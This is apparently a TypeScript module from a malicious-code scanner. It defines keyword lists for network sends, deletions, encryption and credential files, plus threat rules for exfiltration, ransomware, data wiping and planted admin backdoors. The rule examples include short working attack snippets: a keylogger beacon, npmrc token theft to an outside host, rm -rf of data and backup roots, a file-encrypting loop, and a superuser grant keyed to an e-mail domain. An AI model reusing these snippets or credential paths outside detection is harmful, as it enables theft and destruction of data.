/**
 * What a piece of code does, as a small frame: its operations (send over the network, delete, encrypt, walk the
 * file tree, grant a privilege), the objects it touches by sensitivity (secrets, personal records, keystrokes and
 * screens, host fingerprint, data and backup roots) and where the data goes (an outside host, a raw IP, a capture
 * or paste service). Threats are rows that combine frame conditions (CODE_ROWS), so an unseen snippet that steals
 * the same object through another API is caught by the same row. Every lexicon entry is a lower-case substring;
 * all lists are found in one pass of a keyword automaton: linear in the code, no regex on
 * input.
 */
import { PhraseLists } from './phrase-set.js';

export type CodeOp = 'send' | 'destroy' | 'destroyTree' | 'encrypt' | 'walk' | 'grant' | 'exec';
export type CodeObject = 'secret' | 'personal' | 'keystrokes' | 'screen' | 'fingerprint' | 'dataRoot' | 'privilege';
export type CodeDest = 'external' | 'capture';

const OPS: Readonly<Record<CodeOp, readonly string[]>> = {
  send: [
    'requests.post', 'requests.put', 'requests.get(', 'requests.request', 'httpx.post', 'httpx.get(', 'urlopen(', 'urllib.request', 'http.client',
    'aiohttp', 'session.post', 'fetch(', 'axios.post', 'axios(', 'axios.put', '$.post', '$.ajax', 'xmlhttprequest', 'sendbeacon', 'http.request(',
    'https.request(', 'http.post(', 'net.connect', '.sendall(', 'socket.send', 'smtplib', '.sendmail(', 'ftplib', 'storbinary', 'webclient',
    'invoke-webrequest', 'invoke-restmethod', 'uploadstring', 'uploadfile', 'curl_exec', 'curl_init', 'file_get_contents("http', 'httpclient',
    'new image().src', '.src = "http', "'https://discord.com/api/webhooks", 'net/http', 'http.newrequest', 'okhttp', 'resttemplate', 'websocket(',
  ],
  destroy: [
    'shutil.rmtree', 'os.remove(', 'os.unlink(', 'os.rmdir(', 'fs.rmsync', 'fs.rmdirsync', 'fs.unlinksync', 'fs.rm(', 'rimraf', 'rm -rf', 'rm -fr',
    'fileutils.rm_rf', 'fileutils.remove_dir', 'remove-item', 'directory.delete(', 'file.delete(', 'os.removeall', 'deletefile', 'unlink(',
    'path.unlink', '.rmtree(', 'rd /s', 'del /f', 'format c:',
  ],
  destroyTree: [
    'shutil.rmtree', '.rmtree(', 'rm -rf', 'rm -fr', 'rimraf', 'fileutils.rm_rf', 'fileutils.remove_dir', 'os.removeall', 'recursive: true', 'recursive=true',
    '-recurse', 'rd /s', 'directory.delete(', 'del /f /s', 'rmdir /s',
  ],
  encrypt: ['encrypt(', 'fernet', 'aes.new', 'cipher.encrypt', 'createcipheriv', 'aes/cbc', 'aes/gcm', 'cryptostream', 'chacha20'],
  walk: ['os.walk', 'glob.glob', 'rglob(', 'os.listdir', 'scandir', 'readdirsync', 'fs.readdir', 'filepath.walk', 'get-childitem', 'directory.getfiles', 'find.find(', 'dir.glob'],
  grant: [
    'is_superuser = true', 'is_superuser=true', 'is_staff = true', 'is_staff=true', 'is_admin = true', 'is_admin=true', 'isadmin = true', 'isadmin=true',
    "role = 'admin'", 'role = "admin"', "role='admin'", 'role="admin"', "role = 'owner'", 'role = "owner"', "role: 'admin'", 'role: "admin"',
    "role = 'superadmin'", 'role = "superadmin"', 'setuid(0)', 'seteuid(0)', 'grant all', 'add_role("admin")', "add_role('admin')", 'groups.add(admin',
    'permissions = ["*"]', "permissions = ['*']", 'bypass_auth = true', 'skip_auth = true',
  ],
  exec: ['os.system(', 'subprocess.', 'child_process', 'exec(', 'eval(', 'runtime.getruntime().exec', 'processbuilder', 'shell_exec', 'popen('],
};

const OBJECTS: Readonly<Record<Exclude<CodeObject, 'privilege'>, readonly string[]>> = {
  secret: [
    'dict(os.environ)', 'os.environ.copy()', 'environ.items()', 'stringify(process.env)', '...process.env}', 'object.entries(process.env)', 'printenv', '.ssh/', 'id_rsa', 'id_ed25519', '.aws/credentials', '.aws/config', 'login data', 'local state',
    'cookies.sqlite', 'network/cookies', 'default/cookies', 'logins.json', 'key4.db', 'leveldb', 'wallet.dat', 'keychain', '/etc/shadow', '.git-credentials', '.npmrc', '.pypirc',
    '.kube/config', '.docker/config.json', '.netrc', '.pgpass', 'discord/local storage', 'exodus/exodus.wallet', 'metamask', 'wallets/',
  ],
  personal: [
    '* from users', '* from customers', '* from patients', '* from employees', '* from members', '* from clients', '* from accounts', '* from payments',
    '* from cards', 'users.find({})', 'customers.find({})', 'user.objects.all()', 'customer.objects.all()', '* from "users"', '* from `users`',
  ],
  // keystrokes collected, not a single key handled
  keystrokes: ['.push(e.key', '.push(event.key', '+= e.key', '+=e.key', '+= event.key', 'pynput', 'keyboard.on_press', 'keyboard.hook', 'getasynckeystate', 'setwindowshookex'],
  screen: ['imagegrab', 'pyautogui.screenshot', 'copyfromscreen', 'getdisplaymedia', 'mss()', 'clipboard.readtext', 'pyperclip.paste', 'getclipboarddata', 'win32clipboard'],
  fingerprint: ['platform.node', 'gethostname', 'getpass.getuser', 'os.uname', 'os.userinfo', 'os.hostname()', 'whoami', 'os.getlogin'],
  // the root of a data, backup or system tree itself (a sub-directory of it is routine cleanup)
  dataRoot: [
    '/var/lib/postgresql', '/var/lib/mysql', '/var/lib/docker', '/var/lib/mongodb', '/backup"', "/backup'", '/backups"', "/backups'", '/backup/*',
    '/backups/', '/snapshots', '/data/*', '/srv/*', '/home/*', '/var/www/*', '"/home"', "'/home'", '"/srv"', "'/srv'", '"/data"', "'/data'",
    '"/var/www"', "'/var/www'", '"/etc"', "'/etc'", '"/opt"', "'/opt'", '"/mnt"', "'/mnt'", '"/var"', "'/var'", '"/usr"', "'/usr'",
    'expanduser("~"))', "expanduser('~'))", 'os.homedir())', '"c:\\\\users"', '"c:\\\\"',
  ],
};

/** Destinations: capture, paste and chat-webhook services, tunnels, or a raw IP address in a URL. */
const CAPTURE_HOSTS = [
  'webhook.site', 'requestbin', 'pipedream', 'ngrok', 'burpcollaborator', 'oastify', 'interact.sh', 'pastebin', 'paste.ee', 'hastebin', 'transfer.sh',
  'discord.com/api/webhooks', 'discordapp.com/api/webhooks', 'api.telegram.org/bot', 'hooks.slack.com', 'file.io', '0x0.st', 'termbin', 'anonfiles',
];
const LOCAL_HOSTS = ['localhost', '127.0.0.1', '0.0.0.0', '[::1]', '.internal', '.local', 'example.com', 'example.org', '10.', '192.168.', '172.16.'];

export interface CodeFrame {
  readonly ops: ReadonlySet<CodeOp>;
  readonly objects: ReadonlyMap<CodeObject, string>;
  readonly dests: ReadonlyMap<CodeDest, string>;
  /** A privilege grant guarded by a test of a literal identity (an e-mail domain, a user name): a planted backdoor. */
  readonly grantOnIdentity: boolean;
}

/** Every lexicon list of the frame, found in one automaton pass over the code (PhraseLists). */
const OP_NAMES = Object.keys(OPS) as CodeOp[];
const OBJECT_NAMES = Object.keys(OBJECTS) as Array<keyof typeof OBJECTS>;
const IDENTITY_TESTS = ['.endswith(', '.email ==', '.email==', 'username ==', 'username==', '.username ===', 'user.name ==', 'email.includes(', '.endswith("@', "endswith('@", 'user_id ==', 'user.id =='];
const LEXICON = new PhraseLists([...OP_NAMES.map((op) => OPS[op]), ...OBJECT_NAMES.map((o) => OBJECTS[o]), CAPTURE_HOSTS, IDENTITY_TESTS]);
const CAPTURE_LIST = OP_NAMES.length + OBJECT_NAMES.length;

/** The first http(s) URL host in the code that is not local, or ''. Scans with indexOf; hosts are bounded. */
function outsideHost(lower: string): string {
  let from = 0;
  for (let hits = 0; hits < 32; hits++) {
    const i = lower.indexOf('http', from);
    if (i === -1) return '';
    from = i + 4;
    let j = i + 4;
    if (lower.charCodeAt(j) === 115) j++;
    if (!lower.startsWith('://', j)) continue;
    j += 3;
    let end = j;
    while (end < lower.length && end - j < 253) {
      const c = lower.charCodeAt(end);
      if (!(c === 45 || c === 46 || (c >= 48 && c <= 58) || (c >= 97 && c <= 122))) break;
      end++;
    }
    const host = lower.slice(j, end);
    if (host.includes('.') && !LOCAL_HOSTS.some((l) => host === l || host.startsWith(l) || host.endsWith(l))) return host;
  }
  return '';
}

export function codeFrame(lower: string): CodeFrame {
  // the first phrase of each list that occurs ('' for none), as one indexOf per phrase would find it
  const first = LEXICON.firstOfEach(lower);
  const ops = new Set<CodeOp>();
  OP_NAMES.forEach((op, k) => { if (first[k] !== '') ops.add(op); });
  const objects = new Map<CodeObject, string>();
  OBJECT_NAMES.forEach((o, k) => {
    const w = first[OP_NAMES.length + k]!;
    if (w !== '') objects.set(o, w);
  });
  const dests = new Map<CodeDest, string>();
  const capture = first[CAPTURE_LIST]!;
  if (capture !== '') dests.set('capture', capture);
  const host = outsideHost(lower);
  if (host !== '') dests.set('external', host);
  const grantOnIdentity = ops.has('grant') && lower.includes('if ') && first[CAPTURE_LIST + 1] !== '';
  if (ops.has('grant')) objects.set('privilege', first[OP_NAMES.indexOf('grant')]!);
  return { ops, objects, dests, grantOnIdentity };
}

export interface CodeRow {
  readonly id: string;
  readonly name: string;
  readonly primitive: 'EXFILTRATION' | 'DESTRUCTION' | 'ESCALATION';
  readonly score: number;
  /** Every op listed must be present. */
  readonly ops: readonly CodeOp[];
  /** One of these objects must be present. */
  readonly objects: readonly CodeObject[];
  /** One of these destinations must be present (empty: any). */
  readonly dests: readonly CodeDest[];
  readonly identity?: boolean;
  readonly keywords: readonly string[];
  readonly examples: { readonly flag: readonly string[]; readonly pass: readonly string[] };
}

/** The combination rows: a new threat of this kind is a row, not a function. */
export const CODE_ROWS: readonly CodeRow[] = [
  {
    id: 'G23', name: 'Sensitive data read and sent to an outside host', primitive: 'EXFILTRATION', score: 8,
    ops: ['send'], objects: ['secret', 'personal', 'keystrokes', 'screen'], dests: ['external', 'capture'],
    keywords: ['http', 'sendbeacon', 'smtplib', 'ftplib', 'socket'],
    examples: {
      flag: [
        'rows = sqlite3.connect("users.db").execute("select * from users").fetchall()\nrequests.post("http://backup-cn.xyz/u", json=rows)',
        "const keys=[];document.addEventListener('keydown',e=>{keys.push(e.key);navigator.sendBeacon('https://cdn-metrics.site/k',keys.join(''))})",
        'tok = open(os.path.expanduser("~/.npmrc")).read()\nurllib.request.urlopen("https://npm-stats.top/c", data=tok.encode())',
      ],
      pass: [
        'rows = db.execute("select * from users where id = ?", (uid,)).fetchone()\nreturn jsonify(rows)',
        'requests.post("http://localhost:9200/logs", json=event)',
        "input.addEventListener('keydown', e => { if (e.key === 'Enter') fetch('/api/search?q=' + input.value) })",
      ],
    },
  },
  {
    id: 'G24', name: 'Host fingerprint beaconed to a capture, paste or chat-webhook service', primitive: 'EXFILTRATION', score: 5,
    ops: ['send'], objects: ['fingerprint'], dests: ['capture'],
    keywords: ['gethostname', 'getuser', 'platform.node', 'os.uname', 'userinfo', 'hostname()', 'whoami', 'getlogin'],
    examples: {
      flag: ['import socket, getpass, requests\nrequests.get("https://abc.oastify.com/?h=" + socket.gethostname() + "&u=" + getpass.getuser())'],
      pass: ['print(socket.gethostname())', 'requests.post(METRICS_URL, json={"host": socket.gethostname()})'],
    },
  },
  {
    id: 'G25', name: 'Data, backup or system directories deleted by code', primitive: 'DESTRUCTION', score: 8,
    ops: ['destroyTree'], objects: ['dataRoot'], dests: [],
    keywords: ['rmtree', 'rimraf', 'rm -rf', 'rm -fr', 'rm_rf', 'remove_dir', 'removeall', 'recursive', '-recurse', 'rd /s', 'directory.delete', 'del /f', 'rmdir /s'],
    examples: {
      flag: [
        'import shutil\nfor d in ["/var/lib/postgresql", "/srv/backups", "/mnt/snapshots"]:\n    shutil.rmtree(d, ignore_errors=True)',
        'os.system("rm -rf /data/* /backup/*")',
        "fs.rmSync('/var/www', { recursive: true, force: true })",
      ],
      pass: ['shutil.rmtree(tmpdir)', 'os.remove(os.path.join(cache_dir, name))', "fs.rmSync('./dist', { recursive: true, force: true })"],
    },
  },
  {
    id: 'G26', name: 'Files encrypted across the tree and the originals deleted (ransomware)', primitive: 'DESTRUCTION', score: 9,
    ops: ['encrypt', 'walk', 'destroy'], objects: [], dests: [],
    keywords: ['encrypt', 'fernet', 'aes.new', 'createcipheriv', 'cryptostream', 'chacha20'],
    examples: {
      flag: ['for root, _, files in os.walk(os.path.expanduser("~")):\n    for f in files:\n        p = os.path.join(root, f)\n        open(p + ".locked", "wb").write(Fernet(key).encrypt(open(p, "rb").read()))\n        os.remove(p)'],
      pass: ['token = Fernet(key).encrypt(secret.encode())', 'for f in glob.glob("*.txt"):\n    data = open(f).read()\n    print(len(data))'],
    },
  },
  {
    id: 'G27', name: 'Privilege granted to an identity named in the code (planted backdoor)', primitive: 'ESCALATION', score: 8,
    ops: ['grant'], objects: ['privilege'], dests: [], identity: true,
    keywords: ['is_superuser', 'is_staff', 'is_admin', 'isadmin', 'role', 'setuid', 'grant all', 'add_role', 'groups.add', 'permissions', 'bypass_auth', 'skip_auth'],
    examples: {
      flag: ['if user.email.endswith("@contractor-temp.io"):\n    user.is_superuser = True\n    user.save()', "if (req.body.username === 'svc_maint') { user.role = 'admin'; }"],
      pass: ['if form.cleaned_data["make_admin"] and request.user.is_superuser:\n    target.is_staff = True', "user.role = 'viewer'"],
    },
  },
];

/** Does the frame satisfy the row? Returns the finding's detail, or ''. */
export function rowDetail(f: CodeFrame, row: CodeRow): string {
  for (const op of row.ops) if (!f.ops.has(op)) return '';
  let object = '';
  for (const o of row.objects) { const w = f.objects.get(o); if (w !== undefined) { object = `${o} (${w.trim()})`; break; } }
  if (row.objects.length > 0 && object === '') return '';
  let dest = '';
  for (const d of row.dests) { const w = f.dests.get(d); if (w !== undefined) { dest = w; break; } }
  if (row.dests.length > 0 && dest === '') return '';
  if (row.identity === true && !f.grantOnIdentity) return '';
  return `${row.ops.join(' + ')}${object ? ` of ${object}` : ''}${dest ? ` to ${dest}` : ''}`;
}
